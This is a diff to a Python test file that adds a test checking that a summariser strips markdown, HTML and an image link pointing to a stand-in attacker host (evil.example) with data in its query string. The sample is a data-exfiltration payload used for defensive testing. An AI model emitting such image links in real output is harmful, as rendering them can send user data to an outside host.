@@ -79,3 +79,8 @@ def test_a_sentence_that_is_the_documents_own_needs_no_quote() -> None:
 def test_nothing_told_is_an_empty_summary() -> None:
     summary = placed(text_document(RENT), [])
     assert (summary.text, summary.points, summary.warnings) == ("", [], [])
+
+
+def test_nothing_in_a_sentence_is_rendered_loaded_or_followed() -> None:
+    said = "![The rent](http://evil.example/?q=rent) is **1,200.00 EUR** a <b>month</b>."
+    assert placed(text_document(RENT), [note(said, RENT)]).points == ["The rent is 1,200.00 EUR a month."]
